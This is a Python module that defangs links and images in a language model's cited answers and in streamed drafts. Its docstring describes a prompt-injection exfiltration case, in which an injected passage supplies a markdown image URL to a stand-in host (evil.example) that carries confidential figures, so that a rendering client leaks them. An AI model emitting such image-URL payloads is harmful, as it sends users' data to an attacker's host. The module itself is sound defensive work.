"""Links and images in a model's answer, kept to what its cited passages say.

A sentence is held to the union of the passages it cites (grounded.py), so an injected passage
can lend it a URL and another group's passage the figures appended to it: `![chart](https://
evil.example/c.png?d=<the bonus pool>)` is "supported" by the two together, and a client that
renders markdown fetches it, handing the figures to the attacker's host without a click. So:

- an image (markdown, or an HTML tag with attributes: `<img src>`, `<video poster>`, a styled
  `<div>`) is removed: no answer needs one, and rendering it fetches its URL;
- a link keeps its target only if one cited passage holds that target verbatim (a URL the
  documents give, not one put together from two of them); otherwise it keeps its text;
- a bare URL (or `<https://...>`) likewise, or becomes LINK_REMOVED (chat clients link bare
  URLs, and some fetch them for a preview).

A draft streamed while the model writes is not checked against its passages yet: draft_links
sends it with every image and every URL removed, and never sends part of one (a half-written
URL would leave in one delta and its rest in the next). Hand-written: markdown libraries render, and
sanitisers (bleach, nh3) clean HTML; none knows which passage a URL came from.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Sequence

LINK_REMOVED = "(link removed)"
_URL_END = ".,;:!?)]}'\""
_PATTERN = re.compile(  # linear: no run that one candidate scans can be rescanned by the next
    r"(?P<image>!\[[^\[\]\n]*\](?:\([^()\n]*\)|\[[^\[\]\n]*\])?)"
    r"|<(?P<auto>(?:[A-Za-z][A-Za-z0-9+.-]{1,31}:|www\.)[^<>\s]*)>"
    r"|(?P<tag><[A-Za-z][\w:-]*[\s/][^<>]*>)"
    r"|\[(?P<text>[^\[\]\n]*)\]\([ \t]{0,20}(?P<target><[^<>\n]*>|[^()\s]*)"
    r"(?:[ \t]{1,20}(?:\"[^\"\n]{0,300}\"|'[^'\n]{0,300}'|\([^()\n]{0,300}\)))?[ \t]{0,20}\)"
    r"|(?P<bare>(?<![\w@./])(?:[A-Za-z][A-Za-z0-9+.-]{0,31}://|www\.|//(?=[\w-]{1,253}\.))[^\s<>\"'`]+)"
)
DRAFT_HOLD = 2000  # characters of an unclosed `[`, `](` or `<` held back before the draft goes on


def defang(text: str, passages: Sequence[str]) -> str:
    """`text` without images or attribute-bearing HTML tags, its links and URLs kept only where one
    of `passages` holds the URL verbatim (none given: every URL goes)."""

    def held(url: str) -> bool:
        return bool(url) and any(url in passage for passage in passages)

    def one(m: re.Match[str]) -> str:
        if m["image"] is not None or m["tag"] is not None:
            return ""
        if m["text"] is not None:
            target = m["target"].strip("<>")
            return m[0] if held(target) else m["text"]
        if m["auto"] is not None:
            return m[0] if held(m["auto"]) else LINK_REMOVED
        url = m["bare"].rstrip(_URL_END)
        rest = m["bare"][len(url) :]
        return (url if held(url) else LINK_REMOVED) + rest

    out = _PATTERN.sub(one, text)
    if out == text:
        return text
    return re.sub(r"[ \t]+([.!?,;:])", r"\1", re.sub(r"[ \t]{2,}", " ", out))  # the space a removal left


class HeldText:
    """A stream of text re-cut where `cut(text)` says: what follows the cut waits for the next
    piece (it may be the start of something that must go out whole), what precedes it goes out
    through `shown`. end() sends what is still held."""

    def __init__(self, cut: Callable[[str], int], shown: Callable[[str], str] = str) -> None:
        self._cut, self._shown, self._held = cut, shown, ""

    def feed(self, piece: str) -> str:
        text = self._held + piece
        cut = self._cut(text)
        self._held = text[cut:]
        return self._shown(text[:cut])

    def end(self) -> str:
        text, self._held = self._held, ""
        return self._shown(text)


def draft_links() -> HeldText:
    """A streamed draft, piece by piece, as defang(piece, ()) would leave it whole: what could be
    the start of an image, a link or a URL (a last word that looks like one, an unclosed `[`, `](`
    or `<`) is held back until it is complete, so no delta carries part of one."""
    return HeldText(_safe_cut, lambda text: defang(text, ()))


# A last word that may be part of a URL or link the next piece completes: "www" (or its start), a
# scheme with its colon, anything with a slash, an @, a bracket, a parenthesis or an angle bracket,
# a domain-like "evil.co". A plain word goes out: if
# the next piece starts "://host.tld/...", defang removes that piece's "//host.tld/..." on its own
# (holding every last word made each delta a word late, and a stalled model's last word never left).
_URL_LIKE = re.compile(r"(?i)^(?:w{1,3}|www\..*)$|[:/@\\\[\]()<>!]|\.\w")


def _safe_cut(text: str) -> int:
    """Where `text` can be cut with nothing that could become an image, link or URL across the cut."""
    cut = len(text)
    last_word = re.search(r"\S+$", text)
    if last_word and _URL_LIKE.search(last_word[0]):  # it may go on in the next piece
        cut = last_word.start()
    while True:
        opened = max(_unclosed(text, "[", "]", cut), _open_tag(text, cut), _open_target(text, cut))
        if opened < 0 or len(text) - opened > DRAFT_HOLD:
            return cut
        cut = opened - 1 if opened > 0 and text[opened - 1] == "!" else opened


def _unclosed(text: str, start: str, end: str, before: int) -> int:
    """The last `start` before `before` that no `end` follows (up to `before`), or -1."""
    i = text.rfind(start, 0, before)
    return i if i >= 0 and end not in text[i:before] else -1


def _open_tag(text: str, before: int) -> int:
    """The last `<` before `before` that starts a tag (a letter follows) not closed by `>`, or -1."""
    starts = [m.start() for m in re.finditer(r"<(?=[A-Za-z])", text[:before])]
    return starts[-1] if starts and ">" not in text[starts[-1] : before] else -1


def _open_target(text: str, before: int) -> int:
    """The `[` of a link whose `](target` is not closed by `)` before `before`, or -1."""
    j = text.rfind("](", 0, before)
    if j < 0 or ")" in text[j + 2 : before]:
        return -1
    return max(text.rfind("[", 0, j), 0)
